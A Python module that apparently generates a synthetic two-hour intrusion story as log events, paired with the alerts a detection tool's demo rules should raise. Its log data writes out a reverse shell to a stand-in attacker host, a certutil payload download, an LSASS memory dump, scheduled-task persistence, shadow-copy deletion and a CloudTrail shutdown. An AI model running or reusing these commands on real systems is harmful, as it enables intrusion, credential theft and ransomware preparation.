"""The story: one intruder, two hours, from a guessed password to a ransom note that just does not get written.

Every scene is a function from the dice to moments; a moment that a quickstart rule must fire on names that rule. The
dice move hosts' process ids, names that are guessed and times by seconds, never what happens.
"""

from __future__ import annotations

import heapq
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import NamedTuple

from vedette_cli.demo import company, habits_cloud, shapes
from vedette_cli.demo.benign import noise
from vedette_cli.demo.habits_windows import OFFICE, POWERSHELL, SYSTEM, SYSTEM32
from vedette_cli.demo.shapes import Make, Moment

DURATION = 7200.0
"""Two hours, in story seconds."""

VICTIM = company.person("carla.voss")
STOLEN = company.person("jonas.reed")
ENCODED = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
CARLA = f"{company.DOMAIN}\\{VICTIM.login}"
CMD = SYSTEM32 + "cmd.exe"

Step = tuple[float, str, Make, tuple[str, ...]]
"""Seconds after the scene's beginning, source, event, rules that it makes fire."""


class Expected(NamedTuple):
    """An alert that the story raises: the AlertRule's name, and when, in story seconds."""

    rule: str
    when: float


@dataclass(frozen=True, slots=True)
class Scene:
    """A part of the story.

    Attributes:
        name: short and stable, for `--list-scenes`.
        minute: when it begins.
        title: what happens, one line.
        play: makes its steps.
    """

    name: str
    minute: float
    title: str
    play: Callable[[random.Random], list[Step]]


def guessing(rng: random.Random) -> list[Step]:
    """A patient run through names and passwords; one name is bait."""
    names = ["admin", "root", "oracle", "test", "deploy", "postgres", "git", "jonas", "support", "web"]
    steps: list[Step] = []
    for count in range(70):
        pid, port = rng.randrange(900, 32000), rng.randrange(33000, 60000)
        name = "backup-admin" if count == 41 else rng.choice(names)
        known = "" if name == "root" else "invalid user "
        message = f"Failed password for {known}{name} from {company.ATTACKER} port {port} ssh2"
        make = shapes.syslog("web2", "sshd", pid, message)
        alerts = ("ssh-decoy-account",) if name == "backup-admin" else ()
        steps.append((count * 17 + rng.uniform(0, 9), "linux-auth", make, alerts))
    return steps


def root_login(rng: random.Random) -> list[Step]:
    """The last guess is right."""
    pid, port = rng.randrange(900, 32000), rng.randrange(33000, 60000)
    accepted = f"Accepted password for root from {company.ATTACKER} port {port} ssh2"
    opened = "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)"
    return [
        (0.0, "linux-auth", shapes.syslog("web2", "sshd", pid, accepted), ("ssh-root-login-abroad",)),
        (0.2, "linux-auth", shapes.syslog("web2", "sshd", pid, opened), ()),
    ]


def foothold(rng: random.Random) -> list[Step]:
    """A way back in without a password: the web server's account opens a shell to the outside and becomes root."""
    pid = rng.randrange(900, 32000)
    listener = f'bash -c "bash -i >& /dev/tcp/{company.ATTACKER}/4443 0>&1"'
    shell = shapes.linux_process(
        "web2", "svc-web", listener, executable="/usr/bin/bash", parent="/usr/sbin/apache2", pid=pid
    )
    look = shapes.linux_process("web2", "svc-web", "id", executable="/usr/bin/id", parent="/usr/bin/bash", pid=pid + 4)
    sudo = "svc-web : TTY=pts/1 ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash"
    return [
        (0.0, "linux-processes", shell, ("linux-reverse-shell",)),
        (14.0, "linux-processes", look, ()),
        (
            65 + rng.uniform(0, 20),
            "linux-auth",
            shapes.syslog("web2", "sudo", pid + 9, sudo),
            ("sudo-root-shell-service-account",),
        ),
    ]


def _victim_process(rng: random.Random, image: str, command: str, parent: str, user: str = CARLA) -> Make:
    return shapes.sysmon_process(VICTIM.workstation, user, image, command, parent=parent, record=rng.getrandbits(24))


def phishing(rng: random.Random) -> list[Step]:
    """Finance opens an invoice; its macro starts PowerShell."""
    document = f'"WINWORD.EXE" /n "C:\\Users\\{VICTIM.login}\\Downloads\\invoice-4471.docm"'
    command = f"powershell.exe -nop -w hidden -enc {ENCODED}"
    word = OFFICE + "WINWORD.EXE"
    both = ("windows-encoded-powershell", "windows-office-spawns-shell")
    return [
        (0.0, "windows", _victim_process(rng, word, document, OFFICE + "OUTLOOK.EXE"), ()),
        (11 + rng.uniform(0, 5), "windows", _victim_process(rng, POWERSHELL, command, word), both),
        (24.0, "windows", _victim_process(rng, SYSTEM32 + "whoami.exe", "whoami /all", POWERSHELL), ()),
    ]


def tooling(rng: random.Random) -> list[Step]:
    """Windows's own certutil fetches a program; the proxy sees it too; a task keeps it running."""
    url = f"http://{company.ATTACKER_FILES}/u.exe"
    fetch = f"certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\u.exe"
    task = 'schtasks /create /sc minute /mo 30 /tn "OneDrive Sync Helper" /tr C:\\Users\\Public\\u.exe /f'
    seen = shapes.proxy(
        VICTIM.inside,
        VICTIM.login,
        company.ATTACKER_FILES,
        "/u.exe",
        agent="CertUtil URL Agent",
        size=418_304,
        took=611,
    )
    return [
        (
            0.0,
            "windows",
            _victim_process(rng, SYSTEM32 + "certutil.exe", fetch, POWERSHELL),
            ("windows-certutil-download",),
        ),
        (0.8, "web-proxy", seen, ("proxy-tool-from-bare-address",)),
        (
            190 + rng.uniform(0, 40),
            "windows",
            _victim_process(rng, SYSTEM32 + "schtasks.exe", task, POWERSHELL),
            ("windows-scheduled-task-persistence",),
        ),
    ]


def credentials(rng: random.Random) -> list[Step]:
    """The memory of LSASS goes to a file."""
    dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\d.bin full"
    image = SYSTEM32 + "rundll32.exe"
    access = {
        "SourceImage": image,
        "TargetImage": "C:\\Windows\\system32\\lsass.exe",
        "GrantedAccess": "0x1fffff",
        "SourceUser": SYSTEM,
        "TargetUser": SYSTEM,
    }
    opened = shapes.windows(VICTIM.workstation, shapes.SYSMON, 10, access, rng.getrandbits(24), utc_time=True)
    written = {"Image": image, "TargetFilename": "C:\\Users\\Public\\d.bin", "User": SYSTEM}
    file_made = shapes.windows(VICTIM.workstation, shapes.SYSMON, 11, written, rng.getrandbits(24), utc_time=True)
    return [
        (0.0, "windows", _victim_process(rng, image, dump, CMD, SYSTEM), ("windows-lsass-dump-tool",)),
        (0.4, "windows", opened, ("windows-lsass-access",)),
        (1.1, "windows", file_made, ()),
    ]


def spreading(rng: random.Random) -> list[Step]:
    """On to the file server, as an administrator."""
    logon = {
        "TargetUserName": VICTIM.login,
        "TargetDomainName": company.DOMAIN,
        "LogonType": "3",
        "IpAddress": VICTIM.inside,
        "WorkstationName": VICTIM.workstation,
    }
    member = {
        "MemberSid": "S-1-5-21-1004336348-1177238915-682003330-1187",
        "TargetUserName": "Administrators",
        "TargetSid": "S-1-5-32-544",
        "SubjectUserName": VICTIM.login,
        "SubjectDomainName": company.DOMAIN,
    }
    record = rng.getrandbits(24)
    return [
        (0.0, "windows", shapes.windows("FILE1", shapes.SECURITY, 4624, logon, record), ()),
        (
            48 + rng.uniform(0, 30),
            "windows",
            shapes.windows("FILE1", shapes.SECURITY, 4732, member, record + 7),
            ("windows-new-local-admin",),
        ),
    ]


def cloud(rng: random.Random) -> list[Step]:
    """A stolen password opens the cloud console; the trail is stopped; a bucket is opened."""
    who = shapes.iam_user(STOLEN.login)
    address = company.ATTACKER
    login = shapes.cloudtrail(
        "ConsoleLogin",
        "signin",
        who,
        address,
        habits_cloud.new_id(rng),
        agent=habits_cloud.BROWSER,
        responseElements={"ConsoleLogin": "Success"},
        additionalEventData={"MobileVersion": "No", "MFAUsed": "No"},
    )
    trail = {"name": "kbr-main"}
    bucket = {"bucketName": "kbr-customer-telemetry"}
    public = {**bucket, "x-amz-acl": "public-read"}

    def call(name: str, service: str, parameters: dict[str, str]) -> Make:
        return shapes.cloudtrail(name, service, who, address, habits_cloud.new_id(rng), requestParameters=parameters)

    opened = ("aws-bucket-made-public",)
    return [
        (0.0, "cloudtrail", login, ("aws-console-login-without-mfa",)),
        (40.0, "cloudtrail", call("DescribeTrails", "cloudtrail", {}), ()),
        (75 + rng.uniform(0, 20), "cloudtrail", call("StopLogging", "cloudtrail", trail), ("aws-cloudtrail-stopped",)),
        (260.0, "cloudtrail", call("DeleteBucketPublicAccessBlock", "s3", bucket), opened),
        (275 + rng.uniform(0, 9), "cloudtrail", call("PutBucketAcl", "s3", public), opened),
    ]


def cluster(rng: random.Random) -> list[Step]:
    """The same person's kubeconfig: cluster-admin for a friend, and a shell beside the cluster's credentials."""
    role = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
    binding = shapes.kubernetes(
        "create",
        STOLEN.login,
        "clusterrolebindings",
        habits_cloud.new_id(rng),
        name="metrics-reader-2",
        address=company.ATTACKER,
        code=201,
        requestObject={
            "roleRef": role,
            "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "shop"}],
        },
    )
    session = shapes.kubernetes(
        "create",
        STOLEN.login,
        "pods",
        habits_cloud.new_id(rng),
        name="kube-proxy-7xk2p",
        namespace="kube-system",
        subresource="exec",
        address=company.ATTACKER,
        code=101,
    )
    return [
        (0.0, "kubernetes-audit", binding, ("kubernetes-cluster-admin-binding",)),
        (150 + rng.uniform(0, 30), "kubernetes-audit", session, ("kubernetes-exec-in-kube-system",)),
    ]


def ransom(rng: random.Random) -> list[Step]:
    """On the file server: what could bring the files back is deleted, and the log that tells of it is cleared."""
    delete = "vssadmin.exe Delete Shadows /All /Quiet"
    gone = shapes.sysmon_process(
        "FILE1", CARLA, SYSTEM32 + "vssadmin.exe", delete, parent=CMD, record=rng.getrandbits(24)
    )
    subject = {"SubjectUserName": VICTIM.login, "SubjectDomainName": company.DOMAIN}
    cleared = shapes.windows("FILE1", shapes.EVENTLOG, 1102, subject, rng.getrandbits(24))
    return [
        (0.0, "windows", gone, ("windows-shadow-copies-deleted",)),
        (33 + rng.uniform(0, 25), "windows", cleared, ("windows-security-log-cleared",)),
    ]


SCENES = (
    Scene("guessing", 6, "Somebody abroad guesses SSH passwords on web2", guessing),
    Scene("root-login", 32, "A guess is right: root logs in from abroad", root_login),
    Scene("foothold", 37, "web2 opens a shell to the outside", foothold),
    Scene("phishing", 46, "Finance opens an invoice, Word starts PowerShell", phishing),
    Scene("tooling", 53, "certutil fetches a program, a task keeps it", tooling),
    Scene("credentials", 64, "LSASS is dumped on WS-FIN-02", credentials),
    Scene("spreading", 73, "A new administrator on the file server", spreading),
    Scene("cloud", 84, "A stolen password stops CloudTrail and opens a bucket", cloud),
    Scene("cluster", 98, "A new cluster-admin, and a shell in kube-system", cluster),
    Scene("ransom", 113, "Shadow copies deleted, security log cleared", ransom),
)


def dice(seed: int, what: str) -> random.Random:
    """Random numbers that depend on the seed and on what they are for, so that one part's use does not move another."""
    return random.Random(f"{seed}/{what}")  # noqa: S311 # makes a story, not a secret


def scenes(seed: int) -> list[Moment]:
    """The moments of all scenes, in order of time."""
    moments = []
    for scene in SCENES:
        rng = dice(seed, scene.name)
        begins = scene.minute * 60 + rng.uniform(0, 45)
        moments += [
            Moment(begins + after, source, make, scene.name, alerts) for after, source, make, alerts in scene.play(rng)
        ]
    return sorted(moments, key=lambda moment: moment.offset)


def play(seed: int, noise_events: int) -> Iterator[Moment]:
    """The whole story in order of time: the scenes inside `noise_events` everyday events."""
    return heapq.merge(
        scenes(seed), noise(dice(seed, "noise"), DURATION, noise_events), key=lambda moment: moment.offset
    )


def expected_alerts(seed: int) -> list[Expected]:
    """Exactly the alerts that the quickstart's rules raise on the story, in order of time."""
    return [Expected(rule, moment.offset) for moment in scenes(seed) for rule in moment.alerts]
